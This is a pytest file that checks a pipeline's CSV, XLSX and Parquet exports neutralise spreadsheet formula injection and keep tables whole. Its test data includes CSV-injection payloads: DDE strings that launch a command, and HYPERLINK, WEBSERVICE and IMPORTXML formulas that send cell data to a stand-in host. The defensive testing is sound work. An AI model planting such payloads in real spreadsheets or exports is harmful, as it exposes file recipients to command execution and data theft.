"""Exports: whole tables, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import polars as pl
import pytest

from features.tables import Column, Table
from pipeline.export import FORMULA_STARTS, export, guarded
from pipeline.progress import Silence
from pipeline.warehouse import Replacement, StoreLimits, open_store
from pipeline.workbooks import write_workbook

NUMBER = re.compile(r"-?\d+(\.\d+)?")

# Openings that spreadsheet programs are known to run or to chain commands from; the list of
# leading characters is that of the OWASP page on CSV injection (from memory).
FORMULAS = [
    start + rest
    for start in FORMULA_STARTS
    for rest in ("cmd|' /C calc'!A0", 'HYPERLINK("http://example.test","x")', "1+1", "SUM(A1)", "")
]
NOTES = Table(
    "notes",
    "one row per note",
    ("note_id",),
    (
        Column("note_id", pl.Int32(), "1", "number"),
        Column("text", pl.String(), "", "text"),
        Column("low_side_kpa", pl.Float64(), "kPa", "pressure"),
    ),
)


@pytest.fixture
def store(tmp_path):
    rows = pl.DataFrame(
        {
            "note_id": range(len(FORMULAS) + 2),
            "text": [*FORMULAS, "plain = text", None],
            "low_side_kpa": [-1.5] * (len(FORMULAS) + 2),
        }
    )
    limits = StoreLimits("256MB", 1, tmp_path / "temp", "1GB")
    with open_store(tmp_path / "s.duckdb", (NOTES,), limits) as warehouse:
        warehouse.replace([Replacement(NOTES, NOTES.conform(rows))])
        yield warehouse


def test_no_text_cell_of_a_csv_starts_a_formula(store, tmp_path):
    summary = export(store, tmp_path / "out", "csv", Silence())
    with (tmp_path / "out" / "notes.csv").open(newline="", encoding="utf-8") as file:
        cells = [line["text"] for line in csv.DictReader(file)]
    assert len(cells) == len(FORMULAS) + 2
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert cells[: len(FORMULAS)] == ["'" + formula for formula in FORMULAS]
    assert cells[len(FORMULAS)] == "plain = text"
    assert summary.n_guarded_cells == len(FORMULAS)
    assert "plain text" in summary.text


# texts of the kind that spreadsheets have run: the leading signs, their wide forms, cells made by
# a separator inside, exchange with other programs, links, and names of functions (from memory)
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\x'!''",
    '=HYPERLINK("http://example.test/?x="&A1,"open")', '=WEBSERVICE("http://example.test")',
    '=IMPORTXML("http://example.test","//a")', '=IMAGE("http://example.test/a.png")',
    "=INDIRECT(A1)", "{=1+1}=1", "=-1+1", "==1", "=", "+", "-", "@", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(A1)", "a;=1+1", 'a; "=1+1', "a\n=1+1", "a\r\n=1+1", "a\t=1+1",
    "a;-2+3", "a;@SUM(A1)", '";=1+1;"', "',=1+1", "-5.5", "+49 30 123",
]  # fmt: skip


def payload_store(tmp_path):
    rows = pl.DataFrame(
        {
            "note_id": range(len(PAYLOADS)),
            "text": PAYLOADS,
            "low_side_kpa": [-1.5 - n for n in range(len(PAYLOADS))],
        }
    )
    limits = StoreLimits("256MB", 1, tmp_path / "temp", "1GB")
    warehouse = open_store(tmp_path / "payloads.duckdb", (NOTES,), limits)
    warehouse.replace([Replacement(NOTES, NOTES.conform(rows))])
    return warehouse


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_is_live_however_it_is_split(tmp_path, delimiter):
    assert len(PAYLOADS) >= 30
    with payload_store(tmp_path) as store:
        export(store, tmp_path / "out", "csv", Silence())
    with (tmp_path / "out" / "notes.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
    live = [cell for cell in cells if cell.lstrip(' "').startswith(FORMULA_STARTS)]
    # read by its own separator the file also holds its numbers, which stay numbers
    assert [cell for cell in live if not NUMBER.fullmatch(cell)] == []
    assert len([cell for cell in live if NUMBER.fullmatch(cell)]) == (
        len(PAYLOADS) if delimiter == "," else 0
    )


def test_no_cell_of_a_workbook_is_live_and_texts_and_numbers_are_whole(tmp_path):
    with payload_store(tmp_path) as store:
        summary = export(store, tmp_path / "out", "xlsx", Silence())
    path = tmp_path / "out" / "notes.xlsx"
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet.replace("<fonts", "")
    assert "hyperlink" not in sheet
    assert not any("externalLink" in name or "connections" in name for name in names)
    rows = list(openpyxl.load_workbook(path)["notes"].iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        number, text, pressure = row
        # openpyxl gives a formula the type f, a number n
        assert (number.data_type, text.data_type, pressure.data_type) == ("n", "s", "n")
        # XML reads a carriage return as a line feed, unless it is written as _x000D_
        assert text.value.replace("_x000D_", "\r") in {payload, payload.replace("\r", "\n")}
        assert text.quotePrefix == payload.startswith(FORMULA_STARTS)
    assert [row[2].value for row in rows] == [-1.5 - n for n in range(len(PAYLOADS))]
    assert summary.n_guarded_cells == sum(one.startswith(FORMULA_STARTS) for one in PAYLOADS)


def test_a_workbook_holds_every_kind_of_cell_and_goes_on_in_the_next_sheet(tmp_path):
    moment = datetime(2026, 5, 11, 7, 30, 12, tzinfo=UTC)
    frame = pl.DataFrame(
        {
            "n": [1, 2, None, 4, 5],
            "x": [0.1, float("nan"), float("inf"), None, -1e300],
            "is": [True, False, None, True, True],
            "day": [date(2026, 5, 11), date(1850, 1, 1), None, None, None],
            "at": [moment, None, None, None, None],
            "text": ["x" * 40_000, "", "\x00\x1b[31m", None, "<b>"],
        }
    )
    assert write_workbook(frame, tmp_path / "a.xlsx", "a" * 40, most_rows=2) == 0
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["a" * 31, "a" * 29 + " 2", "a" * 29 + " 3"]
    first = [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()]
    assert first[0] == frame.columns
    assert first[1][:5] == [1, 0.1, True, datetime(2026, 5, 11), moment.replace(tzinfo=None)]  # noqa: DTZ001 - a sheet knows no zones
    assert len(first[1][5]) == 32_767
    assert first[2][:5] == [2, None, False, "1850-01-01", None]
    last = [[cell.value for cell in row] for row in book.worksheets[2].iter_rows()]
    assert last[1][:3] == [5, -1e300, True]


def test_the_same_tables_give_the_same_workbook(tmp_path):
    frame = pl.DataFrame({"a": [1, 2], "b": ["x", None]})
    for name in ("a", "b"):
        write_workbook(frame, tmp_path / f"{name}.xlsx", "t")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_numbers_below_zero_stay_numbers(store, tmp_path):
    export(store, tmp_path / "out", "csv", Silence())
    back = pl.read_csv(tmp_path / "out" / "notes.csv")
    assert back["low_side_kpa"].to_list() == [-1.5] * (len(FORMULAS) + 2)


def test_parquet_carries_the_text_unchanged(store, tmp_path):
    summary = export(store, tmp_path / "out", "parquet", Silence())
    assert pl.read_parquet(tmp_path / "out" / "notes.parquet").equals(store.read("notes"))
    assert (summary.n_tables, summary.n_guarded_cells) == (1, 0)


def test_a_frame_without_formulas_is_not_touched():
    frame = pl.DataFrame({"a": ["x", None], "b": [1.0, 2.0]})
    same, count = guarded(frame)
    assert same.equals(frame)
    assert count == 0


def test_a_frame_without_text_columns_can_be_guarded():
    same, count = guarded(pl.DataFrame({"b": [-1.0]}))
    assert same["b"].to_list() == [-1.0]
    assert count == 0
